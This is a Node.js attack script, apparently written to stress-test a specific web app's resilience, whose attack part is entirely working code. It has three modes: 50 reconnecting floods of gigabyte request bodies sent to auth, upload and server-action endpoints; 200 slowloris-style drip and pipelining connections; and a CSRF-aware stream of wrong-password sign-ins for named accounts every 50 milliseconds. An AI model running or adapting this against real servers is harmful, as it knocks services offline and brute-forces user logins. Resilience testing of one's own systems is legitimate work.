import { connect } from "node:net";

// Attackers of one kind, until they are stopped. They say how many they are once all are there, and then each second what
// came of it.

const [kind, origin] = process.argv.slice(2);
const { hostname, port } = new URL(origin);
const head = (start, ...lines) =>
  [`${start} HTTP/1.1`, `Host: ${hostname}:${port}`, `Origin: ${origin}`, ...lines, "", ""].join(
    "\r\n",
  );
const gigabyte = 1024 ** 3;
const counts = { connections: 0, megabytes: 0 };
const statuses = {};

/** A connection that counts what it is answered, and is followed by another when it ends. */
function open(attack) {
  const socket = connect(Number(port), hostname);
  counts.connections += 1;
  socket.on("error", () => {});
  socket.once("data", (chunk) => {
    const status = chunk.toString("latin1", 9, 12);
    statuses[status] = (statuses[status] ?? 0) + 1;
  });
  socket.once("connect", () => attack(socket));
  socket.once("close", () => setTimeout(() => open(attack), 20));
  return socket;
}

const places = [
  ["POST /api/auth/callback/credentials", "Content-Type: application/x-www-form-urlencoded"],
  ["POST /api/subscriptions/none", "Content-Type: application/x-www-form-urlencoded"],
  ["POST /letters/new", "Content-Type: multipart/form-data; boundary=x"],
  ["POST /reports/AIR-01", "Next-Action: 00"],
  ["POST /api/evidence", "Content-Type: application/octet-stream"],
];
const piece = Buffer.alloc(256 * 1024, "a");
const chunk = Buffer.concat([Buffer.from("40000\r\n"), piece, Buffer.from("\r\n")]);

const bodies = (number) => (socket) => {
  const [start, ...lines] = places[number % places.length];
  const isChunked = number % 2 === 0;
  const length = isChunked ? "Transfer-Encoding: chunked" : `Content-Length: ${gigabyte}`;
  const part = isChunked ? chunk : piece;
  let sent = 0;
  const push = () => {
    while (socket.writable && sent < gigabyte) {
      sent += part.length;
      counts.megabytes += part.length / 1024 ** 2;
      if (!socket.write(part)) return;
    }
  };
  socket.resume().on("drain", push);
  socket.write(head(start, length, ...lines));
  push();
};

const slowly = (socket, text) => {
  let sent = 0;
  const timer = setInterval(() => socket.write(text[sent++ % text.length]), 1000);
  socket.once("close", () => clearInterval(timer));
};
const slow = (number) => (socket) => {
  if (number % 3 === 0)
    return slowly(socket.resume(), "GET / HTTP/1.1\r\nX-Slow: aaaaaaaaaaaaaaaa");
  if (number % 3 === 1) {
    socket.resume().write(head("POST /letters/new", "Content-Length: 20000"));
    return slowly(socket, "a");
  }
  // Asks for much, many times over, and reads none of it.
  socket.pause();
  for (let i = 0; i < 20; i += 1) socket.write(head("GET /api/v1/tasks"));
};

const names = ["director", "ecology-official", "supervisor-1", "nobody"];
async function signIn(cookie, csrfToken, number) {
  const username = number % 2 ? names[number % names.length] : `nobody-${number}`;
  const body = new URLSearchParams({
    username,
    password: `wrong-${number}`,
    csrfToken,
    json: "true",
  });
  const response = await fetch(`${origin}/api/auth/callback/credentials`, {
    ...{ method: "POST", body, redirect: "manual", headers: { cookie, origin } },
  });
  await response.arrayBuffer();
  statuses[response.status] = (statuses[response.status] ?? 0) + 1;
}
async function signIns() {
  const csrf = await fetch(`${origin}/api/auth/csrf`);
  const cookie = csrf.headers
    .getSetCookie()
    .map((line) => line.split(";")[0])
    .join("; ");
  const { csrfToken } = await csrf.json();
  let number = 0;
  setInterval(() => signIn(cookie, csrfToken, number++).catch(() => {}), 50);
}

if (kind === "bodies") for (let i = 0; i < 50; i += 1) open(bodies(i));
if (kind === "slow") for (let i = 0; i < 200; i += 1) open(slow(i));
if (kind === "sign-ins") await signIns();

setInterval(() => {
  const { connections, megabytes } = counts;
  console.log(JSON.stringify({ kind, connections, megabytes: Math.round(megabytes), statuses }));
}, 1000);
